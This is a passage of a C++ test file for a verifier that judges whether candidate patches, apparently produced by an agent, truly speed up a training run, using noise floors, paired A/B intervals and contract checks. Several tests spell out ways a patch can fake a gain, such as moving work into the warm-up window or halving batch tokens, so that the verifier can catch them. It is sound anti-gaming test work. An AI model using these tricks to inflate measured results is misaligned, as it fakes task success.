  EXPECT_NE(v.reason.find("0.2000 s on the candidate's"), std::string::npos) << v.reason;
  // Work moved into the warm-up stays a cheat where the ends were seen
  // finely: the whole runs take as long as the baseline's.
  std::vector<VerifyPair> moved = {with(Pair(0.15, 0.10, 2.00, 2.01), 0.005, 0.005),
                                   with(Pair(0.151, 0.101, 2.01, 2.00), 0.005, 0.005),
                                   with(Pair(0.149, 0.099, 1.99, 2.00), 0.005, 0.005)};
  v = JudgeCandidate(moved, rules);
  EXPECT_TRUE(v.implausible) << v.reason;
  // The same moved work where every baseline run's end was read 0.5 s
  // late: the whole runs seem to save it all, but no more than the late
  // reads add; unconfirmed, not promoted.
  for (VerifyPair& p : moved) {
    p.base.whole += 0.5;
    p.base.whole_resolution = 0.6;
  }
  v = JudgeCandidate(moved, rules);
  EXPECT_FALSE(v.cleared) << v.reason;
  EXPECT_TRUE(v.unconfirmed) << v.reason;
  for (VerifyPair& p : moved) p.base.whole_resolution = 0;
  EXPECT_TRUE(JudgeCandidate(moved, rules).cleared)
      << "without the resolution the late baseline reads confirm the moved work";
  // The windows' own read delays count too: an honest 0.10 s saving whose
  // baseline windows' last lines were read 0.05 s late shows 0.15 s in the
  // window; its whole runs keep 0.06 s (noise), under half of 0.15 but
  // half of the 0.10 really saved. Stated (0.06 s of slack a baseline
  // window), its trials are not disqualified.
  std::vector<VerifyPair> slack = {Pair(0.15, 0.10, 2.00, 1.94), Pair(0.151, 0.101, 2.01, 1.951),
                                   Pair(0.149, 0.099, 1.99, 1.929)};
  v = JudgeCandidate(slack, rules);
  EXPECT_TRUE(v.implausible) << v.reason;
  for (VerifyPair& p : slack) p.base.window_slack = 0.06;
  v = JudgeCandidate(slack, rules);
  EXPECT_FALSE(v.implausible) << v.reason;
  EXPECT_TRUE(v.unconfirmed) << v.reason;
  EXPECT_NE(v.reason.find("read delays"), std::string::npos) << v.reason;
}

// The spread a floor implies inverts NoiseFloor (sqrt(2) * cv per pair);
// only a verdict that does not clear is told the host got busier, and a
// verdict without a calibrated spread compares nothing.
TEST(DoctorStatsTest, APairSpreadFarBeyondTheFloorsIsTheHostsNotTheCandidates) {
  EXPECT_NEAR(PairSpreadFromFloor(NoiseFloor(0.05, 4), 4), std::sqrt(2.0) * 0.05, 1e-12);
  EXPECT_NEAR(PairSpreadFromFloor(NoiseFloor(0.02, 10), 10), std::sqrt(2.0) * 0.02, 1e-12);
  const std::vector<std::pair<double, double>> blurred = {{1.0, 0.5}, {1.0, 1.1}, {1.0, 0.7}, {1.0, 0.9}};
  VerifyRules rules;
  rules.noise_floor = NoiseFloor(0.03, 4);
  rules.calibrated_pair_spread = PairSpreadFromFloor(rules.noise_floor, 4);
  std::vector<VerifyPair> pairs;
  for (const auto& [b, c] : blurred) {
    VerifyPair p;
    p.base.reported = b + 1e-4 * static_cast<double>(pairs.size());
    p.cand.reported = c;
    pairs.push_back(p);
  }
  CandidateVerdict v = JudgeCandidate(pairs, rules);
  EXPECT_FALSE(v.cleared);
  EXPECT_TRUE(v.host_noisier) << v.reason;
  EXPECT_GT(v.pair_spread, 3 * std::sqrt(2.0) * 0.03);
  EXPECT_NE(v.reason.find("busier during verification"), std::string::npos) << v.reason;
  // The same pairs judged against a floor as noisy as they are: nothing to say.
  rules.noise_floor = NoiseFloor(0.3, 4);
  rules.calibrated_pair_spread = PairSpreadFromFloor(rules.noise_floor, 4);
  EXPECT_FALSE(JudgeCandidate(pairs, rules).host_noisier);
  rules.noise_floor = NoiseFloor(0.03, 4);
  rules.calibrated_pair_spread = 0;
  EXPECT_FALSE(JudgeCandidate(pairs, rules).host_noisier);
  // Whichever rule decides keeps the note: on the agent's clock a window
  // gain the whole run does not keep rewrites the reason (in CI it dropped
  // the note of a candidate whose pairs spread three times too wide).
  VerifyRules agent_rules = rules;
  agent_rules.agent_clock = true;
  agent_rules.calibrated_pair_spread = PairSpreadFromFloor(agent_rules.noise_floor, 4);
  const std::vector<VerifyPair> moved_on_a_busy_host = {
      Pair(1.0, 0.5, 6.0, 6.01), Pair(1.01, 1.12, 6.03, 6.0), Pair(0.99, 0.62, 5.98, 6.02),
      Pair(1.02, 0.93, 6.01, 6.0)};
  v = JudgeCandidate(moved_on_a_busy_host, agent_rules);
  EXPECT_FALSE(v.cleared);
  EXPECT_TRUE(v.host_noisier) << v.reason;
  EXPECT_NE(v.reason.find("vanishes over the whole run"), std::string::npos) << v.reason;
  EXPECT_NE(v.reason.find("busier during verification"), std::string::npos) << v.reason;
  // Cleared despite the spread: the verdict stands as it is.
  rules.calibrated_pair_spread = PairSpreadFromFloor(rules.noise_floor, 4);
  for (auto& p : pairs) p.cand.reported /= 10;
  v = JudgeCandidate(pairs, rules);
  EXPECT_TRUE(v.cleared) << v.reason;
  EXPECT_FALSE(v.host_noisier);
}

// How often the message misfires, and how often it is earned, by
// simulation: the doctor's five baseline runs give the floor (a CV
// estimated, not known), then pairs of a candidate no faster than the
// baseline. Honest noise as calibrated: under 5% of verdicts say the host
// got busier (about 3% measured); pairs five times as noisy: most do.
TEST(DoctorStatsTest, TheBusierHostMessageIsRareOnHonestNoiseAndCommonOnLoad) {
  std::mt19937_64 rng(7);
  auto rate = [&](double load, int pairs) {
    const double cv = 0.05;
    int said = 0;
    const int kSessions = 4000;
    for (int s = 0; s < kSessions; ++s) {
      std::normal_distribution<double> quiet(1.0, cv), busy(1.0, cv * load);
      std::vector<double> doctor;
      for (int i = 0; i < 5; ++i) doctor.push_back(quiet(rng));
      VerifyRules rules;
      rules.noise_floor = std::max(NoiseFloor(models::CoefficientOfVariation(doctor), pairs), kMinNoiseFloor);
      rules.calibrated_pair_spread = PairSpreadFromFloor(rules.noise_floor, pairs);
      std::vector<VerifyPair> vp(static_cast<size_t>(pairs));
      for (auto& p : vp) {
        p.base.reported = std::max(busy(rng), 0.05);
        p.cand.reported = std::max(busy(rng), 0.05);
      }
      said += JudgeCandidate(vp, rules).host_noisier;
    }
    return static_cast<double>(said) / kSessions;
  };
  for (const int pairs : {2, 4, 8}) {
    SCOPED_TRACE(pairs);
    const double honest = rate(1.0, pairs), loaded = rate(5.0, pairs);
    std::printf("%d pairs: the busier-host message on %.1f%% of honest verdicts, %.1f%% of loaded\n",
                pairs, 100 * honest, 100 * loaded);
    EXPECT_LT(honest, 0.05);
    EXPECT_GT(loaded, 0.5);
  }
}

// The round of fresh pairs that follows a busier host's (core/verification.h)
// is a second chance: for a candidate no faster than the baseline, the
// chance of promotion over both rounds stays within twice the interval's
// 2.5%, on honest noise and on load alike, in either round.
TEST(DoctorStatsTest, ASecondRoundAfterABusierOneKeepsFalsePromotionsWithinTwiceAlpha) {
  std::mt19937_64 rng(11);
  auto promoted = [&](double load1, double load2, int pairs) {
    const double cv = 0.05;
    int wrong = 0;
    const int kSessions = 4000;
    for (int s = 0; s < kSessions; ++s) {
      std::normal_distribution<double> quiet(1.0, cv);
      std::vector<double> doctor;
      for (int i = 0; i < 5; ++i) doctor.push_back(quiet(rng));
      VerifyRules rules;
      rules.noise_floor = std::max(NoiseFloor(models::CoefficientOfVariation(doctor), pairs), kMinNoiseFloor);
      rules.calibrated_pair_spread = PairSpreadFromFloor(rules.noise_floor, pairs);
      auto round = [&](double load) {
        std::normal_distribution<double> arm(1.0, cv * load);
        std::vector<VerifyPair> vp(static_cast<size_t>(pairs));
        for (auto& p : vp) {
          p.base.reported = std::max(arm(rng), 0.05);
          p.cand.reported = std::max(arm(rng), 0.05);
        }
        return JudgeCandidate(vp, rules);
      };
      const CandidateVerdict first = round(load1);
      wrong += first.cleared || (first.host_noisier && round(load2).cleared);
    }
    return static_cast<double>(wrong) / kSessions;
  };
  for (const int pairs : {2, 4, 8}) {
    SCOPED_TRACE(pairs);
    const double honest = promoted(1.0, 1.0, pairs), loaded = promoted(5.0, 5.0, pairs),
                 calmed = promoted(5.0, 1.0, pairs);
    std::printf("%d pairs, no faster: promoted on %.2f%% (quiet), %.2f%% (both rounds loaded), "
                "%.2f%% (loaded, then quiet)\n",
                pairs, 100 * honest, 100 * loaded, 100 * calmed);
    EXPECT_LT(honest, 0.05);
    EXPECT_LT(loaded, 0.05);
    EXPECT_LT(calmed, 0.05);
  }
}

TEST(DoctorStatsTest, PairedSpeedupInterval) {
  const PairedSpeedup p = EstimatePairedSpeedup({{1.0, 0.5}, {1.02, 0.5}, {0.98, 0.5}});
  EXPECT_EQ(p.pairs, 3);
  EXPECT_NEAR(p.speedup, 2.0, 0.01);
  EXPECT_LT(p.ci_low, p.speedup);
  EXPECT_GT(p.ci_high, p.speedup);
  EXPECT_GT(p.ci_low, 1.9);
  // A single pair has no spread: its interval cannot clear any floor.
  EXPECT_EQ(EstimatePairedSpeedup({{1.0, 0.5}}).ci_low, 0.0);
}

TEST(DoctorStatsTest, CandidatesMustClearTheFloorAndTheBestLowerBoundWins) {
  const std::vector<std::pair<double, double>> fast = {{1.0, 0.5}, {1.02, 0.501}, {0.98, 0.499}};
  const std::vector<std::pair<double, double>> modest = {{1.0, 0.9}, {1.01, 0.901}, {0.99, 0.899}};
  const std::vector<std::pair<double, double>> noisy = {{1.0, 0.7}, {1.01, 1.3}, {0.99, 0.95}};
  // A failed arm (-1) leaves its pair out.
  const std::vector<std::pair<double, double>> one_pair = {{1.0, 0.5}, {-1.0, 0.5}};
  std::vector<CandidateVerdict> v = {JudgeCandidate(modest, 0.05), JudgeCandidate(noisy, 0.05),
                                     JudgeCandidate(fast, 0.05), JudgeCandidate(one_pair, 0.05),
                                     JudgeCandidate(fast, 0.05, "a verification run broke the contract")};
  EXPECT_TRUE(v[0].cleared) << v[0].reason;
  EXPECT_FALSE(v[1].cleared) << v[1].reason;
  EXPECT_NE(v[1].reason.find("does not clear the noise floor 1.0500"), std::string::npos) << v[1].reason;
  EXPECT_TRUE(v[2].cleared);
  EXPECT_FALSE(v[3].cleared);
  EXPECT_EQ(v[3].estimate.pairs, 1);
  EXPECT_EQ(v[3].reason, "fewer than two complete A/B pairs");
  EXPECT_FALSE(v[4].cleared);
  EXPECT_EQ(v[4].reason, "a verification run broke the contract");
  EXPECT_EQ(PickPromoted(v), 2);
  // A floor above the modest one's interval leaves only the fast one.
  EXPECT_FALSE(JudgeCandidate(modest, 0.2).cleared);
  EXPECT_EQ(PickPromoted({v[1], v[3]}), -1);
}

// A trial the server stops early is judged on its lines so far: what those
// lines already break (tokens, loss, the optimizer in the window) is a
// violation; what only the whole run can show (how many timed steps, the
// window on the agent's clock, the wall time) is not judged on part of it.
// (Under load a cheating patch's trial was pruned as merely slow before its
// halved batch was ever judged.)
TEST(ContractTest, ATrialStoppedEarlyIsJudgedOnItsLinesSoFar) {
  TrialEvidence partial = Honest();
  partial.steps.pop_back();  // 2 of the 3 timed steps
  partial.wall_s = 0;        // still running: no exit seen
  ASSERT_EQ(CheckContract(Contract(), Reference(), partial)->kind, "timed_steps");
  EXPECT_FALSE(CheckContractSoFar(Contract(), Reference(), partial).has_value());
  // Lines far apart on the agent's clock: only a whole run's window counts.
  TrialEvidence slow_lines = partial;
  for (size_t i = 0; i < slow_lines.steps.size(); ++i) slow_lines.steps[i].arrival_s = 3.0 * i;
  EXPECT_FALSE(CheckContractSoFar(Contract(), Reference(), slow_lines).has_value());
  TrialEvidence halved = partial;
  halved.steps[1].tokens = 16384;
  auto v = CheckContractSoFar(Contract(), Reference(), halved);
  ASSERT_TRUE(v.has_value());
  EXPECT_EQ(v->kind, "tokens_per_step");
  TrialEvidence drifted = partial;
  drifted.steps[2].loss += 0.5;
  v = CheckContractSoFar(Contract(), Reference(), drifted);
  ASSERT_TRUE(v.has_value());
  EXPECT_EQ(v->kind, "loss");
}

}  // namespace
}  // namespace infrarsi
